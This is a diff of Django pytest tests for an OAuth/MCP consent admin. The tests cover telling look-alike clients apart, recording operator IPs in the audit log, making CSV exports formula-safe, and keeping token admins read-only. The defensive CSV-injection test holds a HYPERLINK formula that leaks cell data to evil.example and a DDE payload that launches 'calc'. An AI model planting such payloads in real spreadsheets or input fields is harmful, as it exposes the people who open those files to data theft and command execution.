@@ -2,12 +2,18 @@
 
 from __future__ import annotations
 
+from typing import Any
+
 import pytest
 from django.contrib.auth import get_user_model
 from django.urls import reverse
-from oauth2_provider.models import get_application_model
+from oauth2_provider.models import (
+    get_access_token_model,
+    get_application_model,
+    get_refresh_token_model,
+)
 
-from mcp_consent.models import MCPClient, RedirectURI, UpstreamToken
+from mcp_consent.models import AuditEvent, Consent, MCPClient, RedirectURI, UpstreamToken
 from tests.browser_client import Browser, authorize_params
 
 pytestmark = pytest.mark.django_db
@@ -97,3 +103,295 @@ def test_upstream_token_admin_never_shows_secrets(operator) -> None:
         reverse("admin:mcp_consent_upstreamtoken_change", args=[token.pk])
     ).content.decode()
     assert token.access_token_encrypted not in page and token.refresh_token_encrypted not in page
+
+
+# --- Issue 9 item 4: the admin tells clients apart; the operator's address is recorded ---
+
+OPERATOR_IP = "198.51.100.23"
+
+
+@pytest.fixture
+def operator_at_desk(operator):  # type: ignore[no-untyped-def]
+    operator.defaults["REMOTE_ADDR"] = OPERATOR_IP
+    return operator
+
+
+def twin_clients() -> tuple[MCPClient, MCPClient]:
+    """Two clients with the same self-asserted name: only client_id and host tell them apart."""
+    from tests.factories import MCPClientFactory
+
+    return (
+        MCPClientFactory(client_name="Claude", redirect_uris=["https://claude.example/cb"]),
+        MCPClientFactory(client_name="Claude", redirect_uris=["https://collector.evil.example/cb"]),
+    )
+
+
+def test_client_and_consent_lists_show_client_id_and_redirect_host(operator) -> None:
+    from tests.test_revocation import connect
+
+    real, twin = twin_clients()
+    connect(real)
+    connect(twin)
+    for url in (
+        reverse("admin:mcp_consent_mcpclient_changelist"),
+        reverse("admin:mcp_consent_consent_changelist"),
+    ):
+        page = operator.get(url).content.decode()
+        for client, host in ((real, "claude.example"), (twin, "collector.evil.example")):
+            assert client.application.client_id in page, url
+            assert host in page, url
+
+
+def test_by_client_filter_names_the_chosen_client(operator) -> None:
+    from tests.test_revocation import connect
+
+    real, twin = twin_clients()
+    connect(real)
+    connect(twin)
+    url = reverse("admin:mcp_consent_consent_changelist")
+    page = operator.get(url, {"client": twin.application.client_id}).content.decode()
+    assert f"Claude — {twin.application.client_id} — collector.evil.example" in page
+    # Only the twin's consent is listed: the real client's id appears nowhere on the page.
+    assert real.application.client_id not in page
+    assert 'name="client"' in page  # a text box, not one link per client
+
+
+def test_revoke_confirmation_tells_the_twins_apart(operator) -> None:
+    from tests.test_revocation import connect
+
+    real, twin = twin_clients()
+    connect(real)
+    connect(twin)
+    consent = Consent.objects.get(client=twin)
+    page = operator.post(
+        reverse("admin:mcp_consent_consent_changelist"),
+        {"action": "revoke_consents", "_selected_action": [consent.pk]},
+    ).content.decode()
+    assert twin.application.client_id in page and "collector.evil.example" in page
+    assert real.application.client_id not in page
+    clients = operator.post(
+        reverse("admin:mcp_consent_mcpclient_changelist"),
+        {"action": "disable_clients", "_selected_action": [real.pk]},
+    ).content.decode()
+    assert real.application.client_id in clients and "claude.example" in clients
+
+
+def test_registration_access_token_is_labelled_not_a_century_token(operator) -> None:
+    """MGMT-05: the RFC 7592 token is shown as what it is, valid while the client exists."""
+    from tests.factories import MCPClientFactory
+
+    client = MCPClientFactory()  # DCR: gets a registration access token
+    token = get_access_token_model().objects.get(application=client.application)
+    listing = operator.get(reverse("admin:oauth2_provider_accesstoken_changelist"))
+    html = listing.content.decode()
+    assert "RFC 7592 registration access token" in html
+    assert "while the client is registered" in html
+    assert str(token.expires.year) not in html
+    change = operator.get(reverse("admin:oauth2_provider_accesstoken_change", args=[token.pk]))
+    assert "RFC 7592 registration access token" in change.content.decode()
+    ours = operator.get(reverse("admin:mcp_consent_mcpclient_change", args=[client.pk]))
+    assert "RFC 7592 registration access token issued" in ours.content.decode()
+
+
+def test_admin_actions_record_the_operators_address(operator_at_desk) -> None:
+    """Issue 9 item 4: every event of an operator's action carries the operator's IP."""
+    from tests.test_revocation import connect
+
+    real, twin = twin_clients()
+    connect(real)
+    connect(twin)
+    consents = reverse("admin:mcp_consent_consent_changelist")
+    operator_at_desk.post(
+        consents,
+        {
+            "action": "revoke_consents",
+            "_selected_action": [Consent.objects.get(client=real).pk],
+            "apply": "1",
+            "reason": "phished",
+        },
+    )
+    operator_at_desk.post(
+        reverse("admin:mcp_consent_mcpclient_changelist"),
+        {"action": "disable_clients", "_selected_action": [twin.pk], "apply": "1", "reason": "x"},
+    )
+    operator_at_desk.post(
+        reverse("admin:mcp_consent_mcpclient_register"),
+        {"client_name": "Desk", "redirect_uris": "https://desk.example/cb"},
+    )
+    events = AuditEvent.objects.filter(actor_type="operator")
+    assert {e.action for e in events} >= {
+        "consent_revoked",
+        "upstream_token_revoked",
+        "client_disabled",
+        "client_registered",
+    }
+    assert {e.ip_address for e in events} == {OPERATOR_IP}
+
+
+def test_audit_list_names_actor_client_consent_and_address(operator_at_desk) -> None:
+    from tests.test_revocation import connect
+
+    connected = connect()
+    page = operator_at_desk.get(reverse("admin:mcp_consent_auditevent_changelist")).content.decode()
+    for text in (
+        connected.client.application.client_id,
+        str(connected.consent.pk),
+        "column-ip_address",
+    ):
+        assert text in page
+
+
+# --- SEC-07: no spreadsheet formula in the CSV export ---
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_neutralises_formulas(operator, lead) -> None:
+    """SEC-07 (OWASP CSV injection): a User-Agent or client name starting with a formula
+    character is exported with a leading ' so no spreadsheet evaluates it."""
+    import csv
+    import io
+
+    from tests.factories import MCPClientFactory
+
+    payload = f'{lead}HYPERLINK("https://evil.example/?"&A1,"x")'
+    operator.defaults["HTTP_USER_AGENT"] = payload
+    operator.post(
+        reverse("admin:mcp_consent_mcpclient_register"),
+        {"client_name": f"{lead}cmd|' /C calc'!A0", "redirect_uris": "https://a.example/cb"},
+    )
+    MCPClientFactory(client_name=f"{lead}SUM(1+1)")
+    export = operator.post(
+        reverse("admin:mcp_consent_auditevent_changelist"),
+        {
+            "action": "export_csv",
+            "_selected_action": list(AuditEvent.objects.values_list("pk", flat=True)),
+        },
+    )
+    body = b"".join(export.streaming_content).decode()
+    rows = list(csv.reader(io.StringIO(body, newline="")))
+    assert len(rows) == 1 + AuditEvent.objects.count()
+    cells = [cell for row in rows[1:] for cell in row]
+    assert payload not in cells and f"'{payload}" in cells  # the User-Agent column
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)
+    # The names stay readable inside the details (JSON text, starting with "{").
+    assert any("SUM(1+1)" in cell for cell in cells)
+
+
+def test_csv_cells_keep_their_text() -> None:
+    from mcp_consent.admin.audit_trail import spreadsheet_safe
+
+    assert spreadsheet_safe("=1+1") == "'=1+1"
+    assert spreadsheet_safe("plain") == "plain"
+    assert spreadsheet_safe(-5) == -5  # numbers are numbers
+    assert spreadsheet_safe("") == ""
+
+
+# --- SEC-09: DOT's token and grant admins are read-only; revocation goes through the flow ---
+
+
+def _live_tokens() -> Any:
+    from tests.test_revocation import connect
+
+    connected = connect()
+    refresh = get_refresh_token_model().objects.get(user__isnull=False)
+    access = get_access_token_model().objects.get(user__isnull=False)
+    return connected, refresh, access
+
+
+def test_dot_token_admins_refuse_every_change(operator) -> None:
+    """SEC-09: an operator posting DOT's change, add and delete forms changes nothing."""
+    from tests.test_revocation import access_token_valid, connect
+
+    connected, refresh, access = _live_tokens()
+    rotated = connect(client_name="Other")  # a revoked refresh token to try to un-revoke
+    old_refresh = get_refresh_token_model().objects.get(application=rotated.client.application)
+    old_refresh.revoke()
+    old_refresh.refresh_from_db()
+    revoked_at = old_refresh.revoked
+    other = get_user_model().objects.create_user("mallory")
+    fields = ("user_id", "scope", "expires", "resource", "application_id")
+    before_access = {f: getattr(access, f) for f in fields}
+    for name, obj, data in (
+        (
+            "accesstoken",
+            access,
+            {
+                "user": other.pk,
+                "scope": "mcp admin",
+                "expires_0": "2999-01-01",
+                "expires_1": "00:00:00",
+                "resource": '["https://evil.example/"]',
+                "application": access.application_id,
+            },
+        ),
+        ("refreshtoken", old_refresh, {"revoked_0": "", "revoked_1": "", "user": other.pk}),
+        ("grant", None, {}),
+    ):
+        add = reverse(f"admin:oauth2_provider_{name}_add")
+        assert operator.get(add).status_code == 403, name
+        assert operator.post(add, data).status_code == 403, name
+        if obj is None:
+            continue
+        change = reverse(f"admin:oauth2_provider_{name}_change", args=[obj.pk])
+        assert operator.post(change, data).status_code == 403, name
+        view = operator.get(change)
+        assert view.status_code == 200 and 'name="user"' not in view.content.decode()
+        delete = reverse(f"admin:oauth2_provider_{name}_delete", args=[obj.pk])
+        assert operator.post(delete, {"post": "yes"}).status_code == 403
+    access.refresh_from_db()
+    old_refresh.refresh_from_db()
+    assert {f: getattr(access, f) for f in fields} == before_access
+    assert old_refresh.revoked == revoked_at and old_refresh.user_id != other.pk
+    assert access_token_valid(connected.access_token)
+    application = connected.client.application
+    app_change = reverse("admin:oauth2_provider_application_change", args=[application.pk])
+    assert operator.post(app_change, {"name": "Renamed"}).status_code == 403
+    application.refresh_from_db()
+    assert application.name == "Acme Agent"
+
+
+def test_dot_token_revoke_goes_through_the_audited_flow(operator_at_desk) -> None:
+    """SEC-09: the one way to end a token in the admin is the consent cascade, audited."""
+    from tests.test_revocation import access_token_valid
+
+    connected, refresh, access = _live_tokens()
+    url = reverse("admin:oauth2_provider_accesstoken_changelist")
+    listing = operator_at_desk.get(url).content.decode()
+    assert "revoke_with_consent" in listing
+    assert 'value="revoke_tokens"' not in listing and 'value="delete_selected"' not in listing
+    data = {"action": "revoke_with_consent", "_selected_action": [access.pk]}
+    confirm = operator_at_desk.post(url, data)
+    assert (
+        confirm.status_code == 200
+        and connected.client.application.client_id in confirm.content.decode()
+    )
+    operator_at_desk.post(url, {**data, "apply": "1", "reason": "leaked in a log"})
+    assert not access_token_valid(connected.access_token)
+    assert connected.refresh().status_code == 400
+    connected_consent = Consent.objects.get(client=connected.client)
+    assert connected_consent.revoked_at is not None
+    event = AuditEvent.objects.get(action="consent_revoked")
+    assert event.actor_type == "operator" and event.details["reason"] == "leaked in a log"
+    assert event.ip_address == OPERATOR_IP
+    assert not UpstreamToken.objects.exists()
+
+
+def test_consent_auditors_cannot_revoke_tokens(client) -> None:
+    from django.contrib.auth.models import Group
+
+    connected, refresh, access = _live_tokens()
+    auditor = get_user_model().objects.create_user("auditor", is_staff=True)
+    auditor.groups.add(Group.objects.get(name="consent auditor"))
+    client.force_login(auditor)
+    url = reverse("admin:oauth2_provider_accesstoken_changelist")
+    client.post(
+        url,
+        {
+            "action": "revoke_with_consent",
+            "_selected_action": [access.pk],
+            "apply": "1",
+            "reason": "x",
+        },
+    )
+    assert Consent.objects.get(client=connected.client).revoked_at is None
